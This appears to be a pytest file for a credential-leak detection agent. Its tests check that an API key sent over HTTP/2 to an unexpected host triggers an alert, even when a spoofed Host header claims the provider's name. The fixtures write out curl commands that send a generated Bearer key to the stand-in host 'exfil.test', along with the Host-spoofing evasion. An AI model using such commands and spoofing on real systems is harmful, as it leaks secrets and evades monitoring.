"""HTTP/2 over TLS (ALPN h2) with real curl against a real nghttpd on loopback (issue 4).

curl speaks HTTP/2 with HPACK-coded headers; the agent sees the plaintext at SSL_write and
decodes frames and HPACK before matching. The destination is the TLS SNI, never the
:authority / Host the request claims.
"""

import time


ALERT_TIMEOUT = 5.0
QUIET_PERIOD = 3.0


def _curl_h2(pki, port, name, headers_file, extra=()):
    return ["curl", "-sS", "--noproxy", "*", "--max-time", "15", "--http2", "--cacert",
            str(pki.ca), "--resolve", f"{name}:{port}:127.0.0.1", "-H", f"@{headers_file}",
            "-o", "/dev/null", "-w", "%{http_version}", *extra,
            f"https://{name}:{port}/index.html"]


def _openai(alert):
    return (alert.get("secret") or {}).get("provider") == "openai"


def test_h2_key_to_unexpected_name_alerts_with_that_name(agent, clients, h2_server, pki,
                                                           registry, scratch):
    key = registry.new("openai")
    headers = scratch / "h"
    headers.write_text(f"Authorization: Bearer {key}\n")
    # Two requests on one connection: the second authorization header is an HPACK index.
    url2 = f"https://exfil.test:{h2_server}/index.html"
    result = clients.run(_curl_h2(pki, h2_server, "exfil.test", headers, extra=[url2]))
    assert result.stdout.startswith("2"), "curl did not negotiate HTTP/2"
    alerts = agent.wait_for_alerts(_openai, timeout=ALERT_TIMEOUT)
    assert alerts, f"no alert for an HTTP/2 request\n{agent.diagnostics()}"
    assert alerts[0]["destination"]["host"] == "exfil.test"
    assert alerts[0]["destination"]["name_source"] == "sni"
    assert alerts[0]["process"]["comm"] == "curl"


def test_h2_key_to_expected_name_is_quiet(agent, clients, h2_server, pki, registry, scratch):
    key = registry.new("openai")
    headers = scratch / "h"
    headers.write_text(f"Authorization: Bearer {key}\n")
    result = clients.run(_curl_h2(pki, h2_server, "api.openai.com", headers))
    assert result.stdout.startswith("2")
    time.sleep(QUIET_PERIOD)
    assert not [a for a in agent.alerts() if _openai(a)]
    # The agent did see the request: curl's TLS plaintext reached it.
    assert any(e.get("type") == "tls_data" and e.get("comm") == "curl"
               for e in agent.trace_events())


def test_h2_host_claiming_provider_while_sni_names_another_alerts(agent, clients, h2_server, pki,
                                                                   registry, scratch):
    key = registry.new("openai")
    headers = scratch / "h"
    headers.write_text(f"Authorization: Bearer {key}\nHost: api.openai.com\n")
    clients.run(_curl_h2(pki, h2_server, "exfil.test", headers))
    alerts = agent.wait_for_alerts(_openai, timeout=ALERT_TIMEOUT)
    assert alerts, f"a lying Host header hid the exfiltration\n{agent.diagnostics()}"
    alert = alerts[0]
    assert alert["destination"]["host"] == "exfil.test"
    notes = " ".join(alert["evidence"]["notes"])
    assert "api.openai.com" in notes and "exfil.test" in notes, notes
